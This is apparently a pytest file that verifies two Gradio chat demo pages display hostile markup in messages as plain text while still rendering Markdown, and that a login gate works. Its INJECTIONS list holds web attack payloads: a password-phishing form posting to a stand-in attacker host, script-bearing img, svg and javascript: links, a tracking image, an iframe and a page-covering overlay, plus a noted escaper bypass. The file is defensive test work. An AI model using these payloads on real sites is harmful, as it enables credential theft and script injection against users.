"""Hostile text on both chat pages, in headless Chromium: markup in a model reply or a user message is shown as
text (no form, image, style, overlay or script reaches the page, nothing is fetched), while the reply's Markdown
(emphasis, code blocks, tables, math) still renders.

The pages' own view components (web_demo.chat_view, web_demo_old.transcript_view) and render functions show a
conversation holding the hostile turns, served by Gradio on a loopback port, as the demos serve them. (The demo
model cannot be made to write these replies; what the user types goes through the real pages in
test_web_demo.py::test_html_in_messages_is_displayed_as_typed_not_run.)"""
import os
import socket
from pathlib import Path

import gradio as gr
import pytest

import web_common
import web_demo
import web_demo_old

CHROMIUM = "/usr/bin/chromium"

INJECTIONS = [
    # the bypass: a backslash-escaped backtick opened a "code span" the old escaper left alone
    "\\`<form action=https://evil.example/login><input type=password name=pw placeholder=Password></form>`",
    '<img src="https://evil.example/pixel.png" onerror="window.pwned=1">',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">overlay</div>',
    "<style>body { display: none }</style>",
    "<script>window.pwned = 1</script>",
    '<iframe src="https://evil.example/"></iframe>',
    "![tracker](https://evil.example/t.png)",
    "[click](javascript:window.pwned=1)",
    "``<svg onload=window.pwned=1>``",
]
MARKDOWN_REPLY = ("**bold** and `a<b>`\n\n```python\nif a < b:\n\n    print('<i>')\n```\n\n| x | y |\n|---|---|\n"
                  "| 1 | 2 |\n\n$$x_1 * y_2$$")
TURNS = [(text, text) for text in INJECTIONS] + [("多行\n  缩进 **不是 Markdown**", MARKDOWN_REPLY)]
INJECTED = ("form", "input[type=password]", "img", "style", "iframe", "script", "svg:not(.katex svg)",
            "[style*=fixed]", "a[href^=javascript]")


@pytest.fixture(scope="module")
def pages():
    with gr.Blocks(analytics_enabled=False) as demo:
        web_demo.chat_view(web_demo.messages(TURNS))
        web_demo_old.transcript_view(web_demo_old.transcript(TURNS))
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    demo.launch(server_name="127.0.0.1", server_port=port, prevent_thread_lock=True, theme=web_common.THEME,
                css=web_common.CSS, ssr_mode=False, quiet=True)
    yield f"http://127.0.0.1:{port}/"
    demo.close()


@pytest.fixture(scope="module")
def page(pages):
    playwright_api = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} missing: .ci/run must apt-get install chromium")
        pytest.skip(f"{CHROMIUM} not installed (apt-get install -y chromium)")
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"])
        page = browser.new_page()
        fetched = []
        page.on("request", lambda r: fetched.append(r.url) if "evil.example" in r.url else None)
        page.goto(pages)
        page.wait_for_selector("#chatbot [data-testid=bot]")
        page.wait_for_selector("#transcript table")
        page.fetched = fetched
        yield page
        browser.close()


AREAS = ["#chatbot .prose", "#transcript .prose"]  # the messages' rendered text, not the page's own controls


@pytest.mark.parametrize("area", AREAS)
def test_markup_in_replies_and_messages_is_text_and_nothing_is_injected(page, area):
    view = page.locator(area)
    assert view.count() >= 2
    text = "\n".join(view.all_inner_texts())
    for injection in INJECTIONS:
        shown = injection.replace("\\`", "`") if injection.startswith("\\") else injection
        assert shown in text, f"{injection!r} is not shown as typed in {area}"
    for selector in INJECTED:
        assert view.locator(selector).count() == 0, f"{selector} got into {area}"
    assert page.evaluate("window.pwned") is None
    assert page.fetched == []
    assert page.locator("body").is_visible()


@pytest.mark.parametrize("area", AREAS)
def test_reply_markdown_still_renders_and_user_text_is_shown_as_typed(page, area):
    view = page.locator(area)
    assert view.locator("strong", has_text="bold").count() == 1
    assert view.locator("pre code").filter(has_text="print('<i>')").count() == 1
    code = view.locator("pre code").filter(has_text="print('<i>')").inner_text()
    assert code.startswith("if a < b:\n\n    print")  # blank line and indentation kept
    assert view.locator("table td", has_text="2").count() == 1
    assert view.locator(".katex").count() >= 1  # $$...$$ typeset by Gradio's KaTeX
    typed = view.locator(".typed", has_text="多行").first.inner_text()
    assert typed == "多行\n  缩进 **不是 Markdown**"  # the user's own text: no Markdown, spaces and lines kept


def test_auth_puts_gradios_login_in_front_of_the_page():
    import argparse

    import httpx
    with gr.Blocks(analytics_enabled=False) as demo:
        web_demo.chat_view([])
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    args = argparse.Namespace(host="127.0.0.1", port=port, share=False, auth=web_common._login("alice:s3cret:x"))
    web_common.launch(demo, args, prevent_thread_lock=True, quiet=True)  # as the demos launch, with --auth
    try:
        url = f"http://127.0.0.1:{port}"
        assert httpx.get(url + "/config").status_code == 401  # nothing of the app without logging in
        assert httpx.post(url + "/login", data={"username": "alice", "password": "wrong"}).status_code == 400
        with httpx.Client() as client:
            assert client.post(url + "/login", data={"username": "alice", "password": "s3cret:x"}).status_code == 200
            assert client.get(url + "/config").status_code == 200
    finally:
        demo.close()
